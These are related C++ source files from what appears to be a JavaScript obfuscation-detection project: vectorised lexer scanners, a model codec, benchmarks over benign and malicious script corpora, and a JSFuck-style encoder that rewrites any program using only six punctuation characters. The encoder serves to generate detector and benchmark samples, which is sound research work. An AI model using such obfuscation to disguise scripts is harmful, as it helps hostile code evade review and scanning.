using support::swar::eq_bytes;
using support::swar::first_marked;
using support::swar::high_bytes;
using support::swar::kHigh;
using support::swar::load;
using support::swar::range7;
using support::swar::Word;

inline unsigned char uc(char c) { return static_cast<unsigned char>(c); }

// --- scalar reference implementations ---------------------------------

std::size_t id_end_scalar(const char* data, std::size_t size,
                          std::size_t from) {
  while (from < size && is_id_part_byte(uc(data[from]))) ++from;
  return from;
}

std::size_t ws_end_scalar(const char* data, std::size_t size,
                          std::size_t from) {
  while (from < size && has_flag(uc(data[from]), kFlagWhitespace)) ++from;
  return from;
}

std::size_t line_end_scalar(const char* data, std::size_t size,
                            std::size_t from) {
  while (from < size && !is_line_terminator_byte(uc(data[from]))) ++from;
  return from;
}

std::size_t string_end_scalar(const char* data, std::size_t size,
                              std::size_t from, char quote) {
  while (from < size) {
    const char c = data[from];
    if (c == quote || c == '\\' || c == '\n' || c == '\r') break;
    ++from;
  }
  return from;
}

std::size_t template_end_scalar(const char* data, std::size_t size,
                                std::size_t from) {
  while (from < size) {
    const char c = data[from];
    if (c == '`' || c == '\\' || c == '$' || c == '\n') break;
    ++from;
  }
  return from;
}

std::size_t block_comment_end_scalar(const char* data, std::size_t size,
                                     std::size_t from) {
  while (from < size && data[from] != '*' && data[from] != '\n') ++from;
  return from;
}

// --- SWAR: 8 bytes per 64-bit word -------------------------------------

// High-bit mask of identifier-continuation bytes. Bytes >= 0x80 continue
// unconditionally, so the 7-bit range/equality terms may alias into the
// high half harmlessly ('_' 0x5f also matching 0xdf is absorbed by the
// high_bytes() term).
inline Word id_continue_mask(Word x) {
  const Word x7 = x & ~kHigh;
  return high_bytes(x) | range7(x7, '0', '9') |
         range7(x7 | broadcast(0x20), 'a', 'z') | eq_bytes(x7, '_') |
         eq_bytes(x7, '$');
}

std::size_t id_end_swar(const char* data, std::size_t size, std::size_t from) {
  while (from + 8 <= size) {
    const Word stop = ~id_continue_mask(load(data + from)) & kHigh;
    if (stop != 0) return from + static_cast<std::size_t>(first_marked(stop));
    from += 8;
  }
  return id_end_scalar(data, size, from);
}

std::size_t ws_end_swar(const char* data, std::size_t size, std::size_t from) {
  while (from + 8 <= size) {
    const Word x = load(data + from);
    const Word ws = eq_bytes(x, ' ') | eq_bytes(x, '\t') | eq_bytes(x, '\v') |
                    eq_bytes(x, '\f') | eq_bytes(x, '\r');
    const Word stop = ~ws & kHigh;
    if (stop != 0) return from + static_cast<std::size_t>(first_marked(stop));
    from += 8;
  }
  return ws_end_scalar(data, size, from);
}

std::size_t line_end_swar(const char* data, std::size_t size,
                          std::size_t from) {
  while (from + 8 <= size) {
    const Word x = load(data + from);
    const Word stop = eq_bytes(x, '\n') | eq_bytes(x, '\r');
    if (stop != 0) return from + static_cast<std::size_t>(first_marked(stop));
    from += 8;
  }
  return line_end_scalar(data, size, from);
}

std::size_t string_end_swar(const char* data, std::size_t size,
                            std::size_t from, char quote) {
  const Word q = broadcast(uc(quote));
  while (from + 8 <= size) {
    const Word x = load(data + from);
    const Word stop = support::swar::zero_bytes(x ^ q) | eq_bytes(x, '\\') |
                      eq_bytes(x, '\n') | eq_bytes(x, '\r');
    if (stop != 0) return from + static_cast<std::size_t>(first_marked(stop));
    from += 8;
  }
  return string_end_scalar(data, size, from, quote);
}

std::size_t template_end_swar(const char* data, std::size_t size,
                              std::size_t from) {
  while (from + 8 <= size) {
    const Word x = load(data + from);
    const Word stop = eq_bytes(x, '`') | eq_bytes(x, '\\') |
                      eq_bytes(x, '$') | eq_bytes(x, '\n');
    if (stop != 0) return from + static_cast<std::size_t>(first_marked(stop));
    from += 8;
  }
  return template_end_scalar(data, size, from);
}

std::size_t block_comment_end_swar(const char* data, std::size_t size,
                                   std::size_t from) {
  while (from + 8 <= size) {
    const Word x = load(data + from);
    const Word stop = eq_bytes(x, '*') | eq_bytes(x, '\n');
    if (stop != 0) return from + static_cast<std::size_t>(first_marked(stop));
    from += 8;
  }
  return block_comment_end_scalar(data, size, from);
}

// --- SIMD: 16 bytes per step -------------------------------------------

#if JST_HAVE_SSE2

inline __m128i load16(const char* p) {
  return _mm_loadu_si128(reinterpret_cast<const __m128i*>(p));
}
inline __m128i eq16(__m128i x, char c) {
  return _mm_cmpeq_epi8(x, _mm_set1_epi8(c));
}
// Unsigned x >= c via max: max(x, c) == x.
inline __m128i ge16(__m128i x, char c) {
  return _mm_cmpeq_epi8(_mm_max_epu8(x, _mm_set1_epi8(c)), x);
}
// Unsigned in-range [lo, hi] via min/max equality.
inline __m128i range16(__m128i x, char lo, char hi) {
  const __m128i ge = _mm_cmpeq_epi8(_mm_max_epu8(x, _mm_set1_epi8(lo)), x);
  const __m128i le = _mm_cmpeq_epi8(_mm_min_epu8(x, _mm_set1_epi8(hi)), x);
  return _mm_and_si128(ge, le);
}
// 16-bit mask of stop lanes given a mask of CONTINUE lanes.
inline unsigned stop_mask16(__m128i continue_lanes) {
  return ~static_cast<unsigned>(_mm_movemask_epi8(continue_lanes)) & 0xffffu;
}
inline unsigned match_mask16(__m128i stop_lanes) {
  return static_cast<unsigned>(_mm_movemask_epi8(stop_lanes));
}
inline std::size_t first_lane(unsigned mask16) {
  return static_cast<std::size_t>(__builtin_ctz(mask16));
}

std::size_t id_end_simd(const char* data, std::size_t size, std::size_t from) {
  while (from + 16 <= size) {
    const __m128i x = load16(data + from);
    __m128i cont = range16(x, '0', '9');
    cont = _mm_or_si128(cont, range16(x, 'A', 'Z'));
    cont = _mm_or_si128(cont, range16(x, 'a', 'z'));
    cont = _mm_or_si128(cont, eq16(x, '_'));
    cont = _mm_or_si128(cont, eq16(x, '$'));
    cont = _mm_or_si128(cont, ge16(x, static_cast<char>(0x80)));
    const unsigned stop = stop_mask16(cont);
    if (stop != 0) return from + first_lane(stop);
    from += 16;
  }
  return id_end_swar(data, size, from);
}

std::size_t ws_end_simd(const char* data, std::size_t size, std::size_t from) {
  while (from + 16 <= size) {
    const __m128i x = load16(data + from);
    __m128i ws = eq16(x, ' ');
    ws = _mm_or_si128(ws, eq16(x, '\t'));
    ws = _mm_or_si128(ws, eq16(x, '\v'));
    ws = _mm_or_si128(ws, eq16(x, '\f'));
    ws = _mm_or_si128(ws, eq16(x, '\r'));
    const unsigned stop = stop_mask16(ws);
    if (stop != 0) return from + first_lane(stop);
    from += 16;
  }
  return ws_end_swar(data, size, from);
}

std::size_t line_end_simd(const char* data, std::size_t size,
                          std::size_t from) {
  while (from + 16 <= size) {
    const __m128i x = load16(data + from);
    const unsigned stop =
        match_mask16(_mm_or_si128(eq16(x, '\n'), eq16(x, '\r')));
    if (stop != 0) return from + first_lane(stop);
    from += 16;
  }
  return line_end_swar(data, size, from);
}

std::size_t string_end_simd(const char* data, std::size_t size,
                            std::size_t from, char quote) {
  const __m128i q = _mm_set1_epi8(quote);
  while (from + 16 <= size) {
    const __m128i x = load16(data + from);
    __m128i stop = _mm_cmpeq_epi8(x, q);
    stop = _mm_or_si128(stop, eq16(x, '\\'));
    stop = _mm_or_si128(stop, eq16(x, '\n'));
    stop = _mm_or_si128(stop, eq16(x, '\r'));
    const unsigned mask = match_mask16(stop);
    if (mask != 0) return from + first_lane(mask);
    from += 16;
  }
  return string_end_swar(data, size, from, quote);
}

std::size_t template_end_simd(const char* data, std::size_t size,
                              std::size_t from) {
  while (from + 16 <= size) {
    const __m128i x = load16(data + from);
    __m128i stop = eq16(x, '`');
    stop = _mm_or_si128(stop, eq16(x, '\\'));
    stop = _mm_or_si128(stop, eq16(x, '$'));
    stop = _mm_or_si128(stop, eq16(x, '\n'));
    const unsigned mask = match_mask16(stop);
    if (mask != 0) return from + first_lane(mask);
    from += 16;
  }
  return template_end_swar(data, size, from);
}

std::size_t block_comment_end_simd(const char* data, std::size_t size,
                                   std::size_t from) {
  while (from + 16 <= size) {
    const __m128i x = load16(data + from);
    const unsigned mask =
        match_mask16(_mm_or_si128(eq16(x, '*'), eq16(x, '\n')));
    if (mask != 0) return from + first_lane(mask);
    from += 16;
  }
  return block_comment_end_swar(data, size, from);
}

#elif JST_HAVE_NEON

inline uint8x16_t load16(const char* p) {
  return vld1q_u8(reinterpret_cast<const std::uint8_t*>(p));
}
inline uint8x16_t eq16(uint8x16_t x, char c) {
  return vceqq_u8(x, vdupq_n_u8(static_cast<std::uint8_t>(c)));
}
inline uint8x16_t range16(uint8x16_t x, char lo, char hi) {
  return vandq_u8(vcgeq_u8(x, vdupq_n_u8(static_cast<std::uint8_t>(lo))),
                  vcleq_u8(x, vdupq_n_u8(static_cast<std::uint8_t>(hi))));
}
// Narrows a 0x00/0xff lane mask to a 64-bit word with 4 bits per lane
// (the vshrn trick); first matching lane = ctz / 4.
inline std::uint64_t lane_bits(uint8x16_t mask) {
  const uint8x8_t narrowed =
      vshrn_n_u16(vreinterpretq_u16_u8(mask), 4);
  return vget_lane_u64(vreinterpret_u64_u8(narrowed), 0);
}
inline std::size_t first_lane(std::uint64_t bits) {
  return static_cast<std::size_t>(__builtin_ctzll(bits)) >> 2;
}

std::size_t id_end_simd(const char* data, std::size_t size, std::size_t from) {
  while (from + 16 <= size) {
    const uint8x16_t x = load16(data + from);
    uint8x16_t cont = range16(x, '0', '9');
    cont = vorrq_u8(cont, range16(x, 'A', 'Z'));
    cont = vorrq_u8(cont, range16(x, 'a', 'z'));
    cont = vorrq_u8(cont, eq16(x, '_'));
    cont = vorrq_u8(cont, eq16(x, '$'));
    cont = vorrq_u8(cont, vcgeq_u8(x, vdupq_n_u8(0x80)));
    const std::uint64_t stop = ~lane_bits(cont);
    if (stop != 0) return from + first_lane(stop);
    from += 16;
  }
  return id_end_swar(data, size, from);
}

std::size_t ws_end_simd(const char* data, std::size_t size, std::size_t from) {
  while (from + 16 <= size) {
    const uint8x16_t x = load16(data + from);
    uint8x16_t ws = eq16(x, ' ');
    ws = vorrq_u8(ws, eq16(x, '\t'));
    ws = vorrq_u8(ws, eq16(x, '\v'));
    ws = vorrq_u8(ws, eq16(x, '\f'));
    ws = vorrq_u8(ws, eq16(x, '\r'));
    const std::uint64_t stop = ~lane_bits(ws);
    if (stop != 0) return from + first_lane(stop);
    from += 16;
  }
  return ws_end_swar(data, size, from);
}

std::size_t line_end_simd(const char* data, std::size_t size,
                          std::size_t from) {
  while (from + 16 <= size) {
    const uint8x16_t x = load16(data + from);
    const std::uint64_t stop =
        lane_bits(vorrq_u8(eq16(x, '\n'), eq16(x, '\r')));
    if (stop != 0) return from + first_lane(stop);
    from += 16;
  }
  return line_end_swar(data, size, from);
}

std::size_t string_end_simd(const char* data, std::size_t size,
                            std::size_t from, char quote) {
  while (from + 16 <= size) {
    const uint8x16_t x = load16(data + from);
    uint8x16_t stop = eq16(x, quote);
    stop = vorrq_u8(stop, eq16(x, '\\'));
    stop = vorrq_u8(stop, eq16(x, '\n'));
    stop = vorrq_u8(stop, eq16(x, '\r'));
    const std::uint64_t bits = lane_bits(stop);
    if (bits != 0) return from + first_lane(bits);
    from += 16;
  }
  return string_end_swar(data, size, from, quote);
}

std::size_t template_end_simd(const char* data, std::size_t size,
                              std::size_t from) {
  while (from + 16 <= size) {
    const uint8x16_t x = load16(data + from);
    uint8x16_t stop = eq16(x, '`');
    stop = vorrq_u8(stop, eq16(x, '\\'));
    stop = vorrq_u8(stop, eq16(x, '$'));
    stop = vorrq_u8(stop, eq16(x, '\n'));
    const std::uint64_t bits = lane_bits(stop);
    if (bits != 0) return from + first_lane(bits);
    from += 16;
  }
  return template_end_swar(data, size, from);
}

std::size_t block_comment_end_simd(const char* data, std::size_t size,
                                   std::size_t from) {
  while (from + 16 <= size) {
    const uint8x16_t x = load16(data + from);
    const std::uint64_t bits =
        lane_bits(vorrq_u8(eq16(x, '*'), eq16(x, '\n')));
    if (bits != 0) return from + first_lane(bits);
    from += 16;
  }
  return block_comment_end_swar(data, size, from);
}

#endif  // JST_HAVE_SSE2 / JST_HAVE_NEON

// --- policy ------------------------------------------------------------

ScanPolicy clamp_policy(ScanPolicy policy) {
  if (policy == ScanPolicy::kSimd && !support::simd_available()) {
    return ScanPolicy::kSwar;
  }
  return policy;
}

ScanPolicy initial_policy() {
  const char* env = std::getenv("JST_LEX_SCAN");
  if (env != nullptr) {
    if (std::strcmp(env, "scalar") == 0) return ScanPolicy::kScalar;
    if (std::strcmp(env, "swar") == 0) return ScanPolicy::kSwar;
    if (std::strcmp(env, "simd") == 0) {
      return clamp_policy(ScanPolicy::kSimd);
    }
    // "auto" and unrecognized values both take the widest path.
  }
  return clamp_policy(ScanPolicy::kSimd);
}

std::atomic<ScanPolicy>& policy_cell() {
  static std::atomic<ScanPolicy> cell{initial_policy()};
  return cell;
}

}  // namespace

ScanPolicy scan_policy() {
  return policy_cell().load(std::memory_order_relaxed);
}

ScanPolicy set_scan_policy(ScanPolicy policy) {
  const ScanPolicy installed = clamp_policy(policy);
  policy_cell().store(installed, std::memory_order_relaxed);
  return installed;
}

std::string_view scan_policy_name(ScanPolicy policy) {
  switch (policy) {
    case ScanPolicy::kScalar:
      return "scalar";
    case ScanPolicy::kSwar:
      return "swar";
    case ScanPolicy::kSimd:
      return support::simd_kind_name(support::simd_kind());
  }
  return "unknown";
}

// Dispatch: one relaxed atomic load plus a three-way switch per call.
// The policy never changes in steady state, so the branch predicts
// perfectly; each call then processes a whole run, not a byte.

#if JST_HAVE_SSE2 || JST_HAVE_NEON
#define JST_SCAN_DISPATCH(fn, ...)                \
  switch (scan_policy()) {                        \
    case ScanPolicy::kScalar:                     \
      return fn##_scalar(__VA_ARGS__);            \
    case ScanPolicy::kSwar:                       \
      return fn##_swar(__VA_ARGS__);              \
    case ScanPolicy::kSimd:                       \
      return fn##_simd(__VA_ARGS__);              \
  }                                               \
  return fn##_scalar(__VA_ARGS__)
#else
#define JST_SCAN_DISPATCH(fn, ...)                \
  switch (scan_policy()) {                        \
    case ScanPolicy::kScalar:                     \
      return fn##_scalar(__VA_ARGS__);            \
    case ScanPolicy::kSwar:                       \
    case ScanPolicy::kSimd:                       \
      return fn##_swar(__VA_ARGS__);              \
  }                                               \
  return fn##_scalar(__VA_ARGS__)
#endif

std::size_t find_id_end(const char* data, std::size_t size, std::size_t from) {
  JST_SCAN_DISPATCH(id_end, data, size, from);
}

std::size_t find_ws_end(const char* data, std::size_t size, std::size_t from) {
  JST_SCAN_DISPATCH(ws_end, data, size, from);
}

std::size_t find_line_end(const char* data, std::size_t size,
                          std::size_t from) {
  JST_SCAN_DISPATCH(line_end, data, size, from);
}

std::size_t find_string_end(const char* data, std::size_t size,
                            std::size_t from, char quote) {
  JST_SCAN_DISPATCH(string_end, data, size, from, quote);
}

std::size_t find_template_end(const char* data, std::size_t size,
                              std::size_t from) {
  JST_SCAN_DISPATCH(template_end, data, size, from);
}

std::size_t find_block_comment_end(const char* data, std::size_t size,
                                   std::size_t from) {
  JST_SCAN_DISPATCH(block_comment_end, data, size, from);
}

#undef JST_SCAN_DISPATCH

}  // namespace jst::lex
