// Binary stream primitives for the versioned model encodings.
//
// The text serialization (whitespace-separated decimals, lossless float
// round-trip via precision(17)) stays the readable interchange format;
// the binary encoding exists because formatting/parsing ~20 bytes of
// node as ~60 bytes of decimal text dominates save/load for forest-sized
// models. Fixed-width little-endian fields, no alignment padding. Every
// reader throws ModelError on truncation, so a corrupt or mis-tagged
// stream fails loudly instead of yielding a half-loaded model.
#pragma once

#include <bit>
#include <cstdint>
#include <cstring>
#include <istream>
#include <ostream>
#include <span>

#include "support/error.h"

namespace jst::ml::codec {

static_assert(std::endian::native == std::endian::little,
              "binary model encoding assumes a little-endian host");

inline void write_u64(std::ostream& out, std::uint64_t value) {
  out.write(reinterpret_cast<const char*>(&value), sizeof(value));
}

inline std::uint64_t read_u64(std::istream& in, const char* what) {
  std::uint64_t value = 0;
  if (!in.read(reinterpret_cast<char*>(&value), sizeof(value))) {
    throw ModelError(std::string("model load: truncated binary stream (") +
                     what + ")");
  }
  return value;
}

template <typename T>
void write_array(std::ostream& out, std::span<const T> values) {
  static_assert(std::is_trivially_copyable_v<T>);
  out.write(reinterpret_cast<const char*>(values.data()),
            static_cast<std::streamsize>(values.size() * sizeof(T)));
}

template <typename T>
void read_array(std::istream& in, std::span<T> values, const char* what) {
  static_assert(std::is_trivially_copyable_v<T>);
  if (!in.read(reinterpret_cast<char*>(values.data()),
               static_cast<std::streamsize>(values.size() * sizeof(T)))) {
    throw ModelError(std::string("model load: truncated binary stream (") +
                     what + ")");
  }
}

// Consumes one expected whitespace byte after a text token so binary
// payloads that follow a `<<`-written tag start at an exact offset.
inline void skip_separator(std::istream& in) {
  const int c = in.get();
  if (c != ' ' && c != '\n') {
    throw ModelError("model load: malformed binary stream (missing separator)");
  }
}

}  // namespace jst::ml::codec
