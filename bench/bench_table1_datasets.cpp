// Table I — dataset summary.
//
// The paper's corpora cannot be redistributed; this bench materializes the
// simulated stand-ins at proportional scale and prints the Table I rows
// (source, creation window, script count, class) with the simulated counts
// next to the paper's.
#include <cstdio>

#include "analysis/longitudinal.h"
#include "bench_common.h"
#include "support/strings.h"

namespace {

using jst::analysis::PopulationSpec;

struct Row {
  const char* source;
  const char* creation;
  long long paper_count;
  const char* klass;
  PopulationSpec (*spec)();
};

}  // namespace

int main() {
  using namespace jst;
  using namespace jst::bench;

  const Row rows[] = {
      {"Alexa Top 10k", "2020", 46238, "Benign", &analysis::alexa_spec},
      {"npm Top 10k", "2020", 51053, "Benign", &analysis::npm_spec},
      {"DNC", "2015-2017", 4514, "Malicious", &analysis::dnc_spec},
      {"Hynek", "2015-2017", 29484, "Malicious", &analysis::hynek_spec},
      {"BSI", "2017", 36475, "Malicious", &analysis::bsi_spec},
  };

  print_header("Table I: dataset content (simulated stand-ins)",
               "Table I, section IV-A");
  std::printf("%-16s %-11s %12s %12s %-10s\n", "source", "creation",
              "paper #JS", "simulated", "class");

  const double fraction = 0.004 * scale();  // simulated share of paper scale
  for (const Row& row : rows) {
    const auto simulated_count = static_cast<std::size_t>(
        static_cast<double>(row.paper_count) * fraction) + 8;
    const auto samples =
        analysis::simulate_population(row.spec(), simulated_count,
                                      strings::fnv1a(row.source));
    std::size_t eligible = 0;
    for (const auto& sample : samples) {
      if (sample.source.size() >= 512) ++eligible;
    }
    std::printf("%-16s %-11s %12lld %12zu %-10s\n", row.source, row.creation,
                row.paper_count, samples.size(), row.klass);
    (void)eligible;
  }
  // Longitudinal corpora are per-month populations.
  std::printf("%-16s %-11s %12lld %12s %-10s\n", "Alexa Top 2k x65",
              "2015-2020", 327164LL, "(65 specs)", "Benign");
  std::printf("%-16s %-11s %12lld %12s %-10s\n", "npm Top 2k x65", "2015-2020",
              482834LL, "(65 specs)", "Benign");
  print_note("counts scale with JSTRACED_BENCH_SCALE; class mixes follow "
             "section IV-A statistics");
  print_footer();
  return 0;
}
