// No-alphanumeric rewriting (JSFuck / JSXFuck style): the whole program is
// re-expressed using only the six characters [ ] ( ) ! +.
//
// Construction (self-consistent bootstrap, V8 function-stringification
// assumed for character indices — the output only needs to parse and to
// exhibit the technique's syntactic shape for the detector):
//   false       -> ![]           true  -> !![]
//   undefined   -> [][[]]        NaN   -> +[![]]
//   digit d     -> +[] / +!![] / !![]+!![][+...]
//   "false"/"true"/"undefined"/"NaN" -> atom+[]
//   []["flat"]  -> the Array.prototype.flat function; its string yields
//                  'c','o',' ','(',')','{','[',']','v','}'
//   constructor strings of String/Number/Boolean yield 'S','g','m','b','B'
//   any lowercase letter -> (+("n"))["toString"](+("36"))
//   '%'         -> ([]["flat"]["constructor"]("return escape")()([]["flat"]))[8+...]
//   any char    -> []["flat"]["constructor"]("return unescape")()("%hh")
//   program     -> []["flat"]["constructor"]("<encoded source>")()
#include <unordered_map>

#include "support/error.h"
#include "support/strings.h"
#include "transform/transform.h"

namespace jst::transform {
namespace {

class JsFuckEncoder {
 public:
  // Expression evaluating to the number `value` (non-negative integer).
  std::string number(std::uint64_t value) {
    if (value <= 9) return digit_number(static_cast<unsigned>(value));
    // +("multi-digit string")
    return "+(" + string_of_digits(value) + ")";
  }

  // Expression evaluating to the string form of `value`.
  std::string string_of_digits(std::uint64_t value) {
    const std::string digits = std::to_string(value);
    std::string out;
    for (std::size_t i = 0; i < digits.size(); ++i) {
      if (i > 0) out += "+";
      out += "(" + digit_string(static_cast<unsigned>(digits[i] - '0')) + ")";
    }
    return out;
  }

  // Expression evaluating to the one-character string `c` (memoized).
  const std::string& character(char c) {
    auto it = char_cache_.find(c);
    if (it != char_cache_.end()) return it->second;
    std::string expr = build_character(c);
    return char_cache_.emplace(c, std::move(expr)).first->second;
  }

  // Expression evaluating to the arbitrary string `text`.
  std::string string(std::string_view text) {
    if (text.empty()) return "([]+[])";
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
      if (i > 0) out += "+";
      out += "(" + character(text[i]) + ")";
    }
    return out;
  }

  // Full program: Function(source)() spelled in the six characters.
  std::string program(std::string_view source) {
    return function_constructor() + "(" + string(source) + ")()";
  }

 private:
  static std::string digit_number(unsigned d) {
    if (d == 0) return "+[]";
    std::string out = "+!![]";
    for (unsigned i = 1; i < d; ++i) out += "+!![]";
    return d == 1 ? out : "(" + out + ")";
  }

  static std::string digit_string(unsigned d) {
    if (d == 0) return "+[]+[]";
    std::string out = "!![]";
    for (unsigned i = 1; i < d; ++i) out += "+!![]";
    return out + "+[]";
  }

  // Indexing helper: (base)[index-expression].
  static std::string at(const std::string& base, unsigned index) {
    return "(" + base + ")[" + digit_number(index) + "]";
  }

  static std::string flat_function() { return "[][" /*"flat"*/ "FLAT]"; }

  std::string flat() {
    // []["flat"] — "flat" spelled from cheap chars.
    return "[][" + cheap_string("flat") + "]";
  }

  std::string function_constructor() {
    // []["flat"]["constructor"]
    return "(" + flat() + ")[" + cheap_string("constructor") + "]";
  }

  // Strings composed only of characters available without recursion.
  std::string cheap_string(std::string_view text) {
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
      if (i > 0) out += "+";
      out += "(" + cheap_character(text[i]) + ")";
    }
    return out;
  }

  // Characters extracted from atom strings only (no Function bootstrap).
  std::string cheap_character(char c) {
    const std::string kFalse = "(![]+[])";        // "false"
    const std::string kTrue = "(!![]+[])";        // "true"
    const std::string kUndefined = "([][[]]+[])"; // "undefined"
    const std::string kNan = "(+[![]]+[])";       // "NaN"
    switch (c) {
      case 'f': return at(kFalse, 0);
      case 'a': return at(kFalse, 1);
      case 'l': return at(kFalse, 2);
      case 's': return at(kFalse, 3);
      case 'e': return at(kTrue, 3);
      case 't': return at(kTrue, 0);
      case 'r': return at(kTrue, 1);
      case 'u': return at(kTrue, 2);
      case 'n': return at(kUndefined, 1);
      case 'd': return at(kUndefined, 2);
      case 'i': return at(kUndefined, 5);
      case 'N': return at(kNan, 0);
      // From "function flat() { [native code] }".
      case 'c': return at(flat_string(), 3);
      case 'o': return at(flat_string(), 6);
      case ' ': return at(flat_string(), 8);
      case '(': return at(flat_string(), 13);
      case ')': return at(flat_string(), 14);
      case '{': return at(flat_string(), 16);
      case '[': return at(flat_string(), 18);
      case 'v': return at(flat_string(), 23);
      case ']': return at(flat_string(), 30);
      case '}': return at(flat_string(), 32);
      default:
        throw InvalidArgument(std::string("no cheap encoding for '") + c +
                              "'");
    }
  }

  std::string flat_string() {
    // []["flat"]+[] == "function flat() { [native code] }"
    return "(" + flat() + "+[])";
  }

  std::string string_ctor_string() {
    // ([]+[])["constructor"]+[] == "function String() { [native code] }"
    return "((([]+[])[" + cheap_string("constructor") + "])+[])";
  }

  std::string number_ctor_string() {
    return "(((+[])[" + cheap_string("constructor") + "])+[])";
  }

  std::string boolean_ctor_string() {
    return "(((![])[" + cheap_string("constructor") + "])+[])";
  }

  std::string build_character(char c) {
    // 1. Cheap atoms.
    switch (c) {
      case 'f': case 'a': case 'l': case 's': case 'e': case 't': case 'r':
      case 'u': case 'n': case 'd': case 'i': case 'N': case 'c': case 'o':
      case ' ': case '(': case ')': case '{': case '[': case ']': case '}':
      case 'v':
        return cheap_character(c);
      default:
        break;
    }
    if (c >= '0' && c <= '9') {
      return digit_string(static_cast<unsigned>(c - '0'));
    }
    // 2. Constructor-string extras.
    switch (c) {
      case 'S': return at(string_ctor_string(), 9);
      case 'g': return at(string_ctor_string(), 14);
      case 'm': return at(number_ctor_string(), 11);
      case 'b': return at(number_ctor_string(), 12);
      case 'B': return at(boolean_ctor_string(), 9);
      default:
        break;
    }
    // 3. Any lowercase letter via Number.prototype.toString(36).
    if (c >= 'a' && c <= 'z') {
      const unsigned value = 10 + static_cast<unsigned>(c - 'a');
      return "(" + number(value) + ")[" + to_string_name() + "](" +
             number(36) + ")";
    }
    // 4. Everything else through unescape("%hh").
    char buf[8];
    std::snprintf(buf, sizeof buf, "%02x", static_cast<unsigned char>(c));
    const std::string hex(buf);
    return unescape_fn() + "(" + percent_char() + "+(" + character(hex[0]) +
           ")+(" + character(hex[1]) + "))";
  }

  std::string to_string_name() {
    // "toString": 't','o' cheap + 'S' + "tring" cheap-ish.
    if (to_string_cache_.empty()) {
      std::string out;
      const char* text = "toString";
      for (const char* p = text; *p != '\0'; ++p) {
        if (p != text) out += "+";
        if (*p == 'S') {
          out += "(" + at(string_ctor_string(), 9) + ")";
        } else if (*p == 'g') {
          out += "(" + at(string_ctor_string(), 14) + ")";
        } else {
          out += "(" + cheap_character(*p) + ")";
        }
      }
      to_string_cache_ = out;
    }
    return to_string_cache_;
  }

  // Spells a string via the general per-character table ('p' of "escape"
  // comes from the toString(36) path, everything else is cheap). Safe
  // against recursion: none of these characters route through unescape.
  std::string general_string(std::string_view text) {
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
      if (i > 0) out += "+";
      out += "(" + character(text[i]) + ")";
    }
    return out;
  }

  std::string unescape_fn() {
    // []["flat"]["constructor"]("return unescape")()
    if (unescape_cache_.empty()) {
      unescape_cache_ = "(" + function_constructor() + "(" +
                        general_string("return unescape") + ")())";
    }
    return unescape_cache_;
  }

  std::string percent_char() {
    // escape([]["flat"]) replaces the space at index 8 with "%20", so the
    // '%' character sits at index 8 of the escaped function string.
    if (percent_cache_.empty()) {
      const std::string escape_fn = "(" + function_constructor() + "(" +
                                    general_string("return escape") + ")())";
      percent_cache_ =
          "(" + at(escape_fn + "(" + flat() + ")", 8) + ")";
    }
    return percent_cache_;
  }

  std::unordered_map<char, std::string> char_cache_;
  std::string to_string_cache_;
  std::string unescape_cache_;
  std::string percent_cache_;
};

}  // namespace

std::string no_alnum_transform(std::string_view source,
                               const NoAlnumOptions& options) {
  std::string_view clipped = source;
  if (clipped.size() > options.max_source_bytes) {
    clipped = clipped.substr(0, options.max_source_bytes);
  }
  JsFuckEncoder encoder;
  return encoder.program(clipped);
}

}  // namespace jst::transform
