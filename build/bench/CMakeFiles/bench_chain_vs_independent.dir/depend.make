# Empty dependencies file for bench_chain_vs_independent.
# This may be replaced when dependencies are built.
