// Lexer block-scanner microbenchmark (DESIGN.md §16).
//
// Measures tokenize-only throughput (MB/s) per input family × scan
// policy. The families stress different scanners: minified output is
// punctuator-dense with long physical lines (whitespace scanner mostly
// idle), JSFuck floods are short-token storms (runs too short for the
// wide scanners to amortize — the interesting regression case), string-
// heavy sources spend almost all bytes inside literal payloads (the
// find_string_end fast path), and plain sources mix identifiers,
// comments, and indentation (find_id_end / find_ws_end / find_line_end).
//
// Emits BENCH_lexer.json via bench_common so the per-family trajectory
// is recorded across PRs. Each row pins one scan policy (the `effective`
// field records what actually ran — kSimd clamps to kSwar on targets
// without a compiled 16-byte path); production runs match the widest
// compiled-in row.
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "bench_common.h"
#include "lexer/lexer.h"
#include "lexer/scan.h"
#include "support/arena.h"
#include "support/rng.h"
#include "transform/transform.h"

namespace jst {
namespace {

struct Family {
  std::string name;
  std::vector<std::string> sources;
  std::size_t bytes = 0;
};

Family make_family(std::string name, std::vector<std::string> sources) {
  Family family;
  family.name = std::move(name);
  family.sources = std::move(sources);
  for (const std::string& source : family.sources) {
    family.bytes += source.size();
  }
  return family;
}

// Plain generated scripts, exactly the held-out corpus the pipeline
// benches use.
Family plain_family(std::size_t count) {
  return make_family("plain", bench::held_out_regular(count, 0x1e4));
}

// The same corpus through the repo's minifier (advanced mode, long
// wrapped lines).
Family minified_family(std::size_t count) {
  std::vector<std::string> sources = bench::held_out_regular(count, 0x1e4);
  transform::MinifyOptions options;
  options.advanced = true;
  for (std::string& source : sources) {
    source = transform::minify(source, options);
  }
  return make_family("minified", std::move(sources));
}

// JSFuck-style floods via the no-alnum transformer (the real ~1500x
// blowup, capped per input to keep the corpus tractable).
Family jsfuck_family(std::size_t count) {
  // The ~1500x blowup means a handful of seeds already yields megabytes
  // of flood; divide so this family doesn't dominate the bench's wall
  // time.
  std::vector<std::string> seeds =
      bench::held_out_regular(std::max<std::size_t>(count / 8, 1), 0x2e4);
  transform::NoAlnumOptions options;
  options.max_source_bytes = 128;
  std::vector<std::string> sources;
  sources.reserve(seeds.size());
  for (const std::string& seed : seeds) {
    sources.push_back(transform::no_alnum_transform(seed, options));
  }
  return make_family("jsfuck", std::move(sources));
}

// Sources dominated by long string literals with sparse escapes — the
// block scanner's best case, and the dirty-path run-append's worst.
Family string_heavy_family(std::size_t count) {
  Rng rng(0x3e4);
  std::vector<std::string> sources;
  sources.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    std::string source;
    const int literals = 8 + static_cast<int>(rng.uniform_int(0, 8));
    for (int j = 0; j < literals; ++j) {
      const std::size_t length =
          512 + static_cast<std::size_t>(rng.uniform_int(0, 4096));
      const std::size_t escape_every =
          rng.uniform_int(0, 3) == 0
              ? 64 + static_cast<std::size_t>(rng.uniform_int(0, 256))
              : 0;  // three in four literals are escape-free
